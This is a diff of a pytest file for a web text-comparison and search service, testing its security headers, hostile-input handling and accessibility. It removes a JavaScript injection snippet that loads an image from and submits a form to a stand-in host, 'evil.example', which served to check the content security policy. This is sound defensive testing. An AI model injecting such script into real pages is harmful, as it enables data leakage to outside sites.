@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 from typing import Any
 
@@ -66,7 +67,7 @@ def test_two_texts_are_compared(console: Service) -> None:
     assert len(page.css("del")) == len(page.css("ins")) == 1
 
 
-def test_the_index_is_searched(console: Service) -> None:
+def test_the_index_is_searched_and_shown(console: Service) -> None:
     page = sent(console, "/search", page=LONG.replace("word9 ", ""), url="https://new.example/")
     assert f"of {SCRIPT}" in texts(page, "h2")[0]
     (row,) = (row for row in texts(page, "main tr") if SCRIPT in row)
@@ -75,6 +76,9 @@ def test_the_index_is_searched(console: Service) -> None:
     rows = [row for row in texts(page, "[aria-label=Paragraphs] tr") if row.endswith(SCRIPT)]
     assert rows
     assert all("known" in row for row in rows)
+    shown = texts(LexborHTMLParser(console.http.get("/index").text), "main")[0]
+    assert "Pages2" in shown
+    assert re.search(r"the answer. .*/search\d\.\d+ Pages checked, by kind. new\d+ .* holds. All2", shown)
 
 
 @pytest.mark.parametrize("kind", ["text", "html"])
@@ -113,23 +117,21 @@ def test_bad_input_gets_the_form_again_and_a_reason(
     assert page.css("form")
 
 
-def test_every_page_forbids_what_it_does_not_need(console: Service) -> None:
-    for path in ("/", "/search", "/index"):
-        answer = console.http.get(path)
-        policy = answer.headers["content-security-policy"]
-        assert "default-src 'none'; style-src 'self'; form-action 'self'" in policy
-        assert (answer.headers["x-content-type-options"], answer.headers["cache-control"]) == ("nosniff", "no-store")
-    assert "Pages checked, by kind." in answer.text
+@pytest.mark.parametrize("path", ["/", "/search", "/index"])
+def test_every_page_forbids_what_it_does_not_need(console: Service, path: str) -> None:
+    headers = console.http.get(path).headers
+    assert "default-src 'none'; style-src 'self'; form-action 'self'" in headers["content-security-policy"]
+    assert (headers["x-content-type-options"], headers["cache-control"]) == ("nosniff", "no-store")
 
 
 @pytest.fixture
-def tab(console: Service, request: pytest.FixtureRequest) -> Iterator[Any]:
-    """A tab of a browser, which heeds the policy of the pages or does not. `trouble` has what went wrong in it."""
+def tab(console: Service) -> Iterator[Any]:
+    """A tab of a browser that does not heed the policy of the pages. `trouble` has what went wrong in it."""
     from playwright.sync_api import sync_playwright
 
     with sync_playwright() as playwright:
         browser = playwright.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
-        opened: Any = browser.new_context(base_url=console.url, bypass_csp=request.param).new_page()
+        opened: Any = browser.new_context(base_url=console.url, bypass_csp=True).new_page()
         opened.trouble = []
         for event, what in {"request": "url", "pageerror": "message", "dialog": "message", "console": "text"}.items():
             opened.on(event, lambda met, what=what: opened.trouble.append(getattr(met, what)))
@@ -149,41 +151,17 @@ def send(tab: Any, path: str, **fields: str) -> None:
         summary.click()
 
 
-INJECTED = """() => {
-    const script = document.createElement("script");
-    script.textContent = "window.broken = 1";
-    const image = document.createElement("img");
-    image.src = "https://evil.example/pixel";
-    const form = document.createElement("form");
-    form.action = "https://evil.example/";
-    document.body.append(script, image, form);
-    form.submit();
-}"""
-
-
 @needs_browser
 @pytest.mark.nightly
-@pytest.mark.parametrize("tab", [False, True], ids=["with its policy", "without its policy"], indirect=True)
-def test_a_browser_runs_and_loads_nothing_of_a_hostile_text(tab: Any, console: Service) -> None:
+def test_a_browser_runs_and_loads_nothing_of_a_hostile_text_and_sends_no_form_of_others(
+    tab: Any, console: Service
+) -> None:
     text = f"{HOSTILE} {story(1)} {HOSTILE}"
     for path, fields in (("/", {"first": text, "second": text + "x"}), ("/search", {"page": text, "url": EVIL})):
         send(tab, path, **fields)
         assert tab.get_by_role("heading", level=2).count() == 2
         assert tab.evaluate("window.broken") is None
     assert [each for each in tab.trouble if not each.startswith(console.url)] == []
-
-
-@needs_browser
-@pytest.mark.nightly
-@pytest.mark.parametrize("tab", [False], indirect=True)
-def test_the_policy_stops_what_would_still_get_in_and_no_other_site_can_send_a_form(tab: Any, console: Service) -> None:
-    tab.goto("/")
-    tab.evaluate(INJECTED)
-    tab.wait_for_timeout(200)
-    assert tab.evaluate("window.broken") is None
-    told = "\n".join(tab.trouble)
-    for blocked in ("inline script", "the image 'https://evil.example/pixel'", "form-action 'self'"):
-        assert blocked in told, told
     tab.goto("about:blank")
     with tab.expect_response(f"{console.url}/search") as answered:
         tab.set_content(f'<form method=post action="{console.url}/search"><input name=page value=x></form>')
@@ -193,7 +171,6 @@ def test_the_policy_stops_what_would_still_get_in_and_no_other_site_can_send_a_f
 
 @needs_browser
 @pytest.mark.nightly
-@pytest.mark.parametrize("tab", [False], indirect=True)
 def test_the_pages_fit_a_phone_and_are_accessible(tab: Any) -> None:
     from axe_playwright_python.sync_playwright import Axe
 
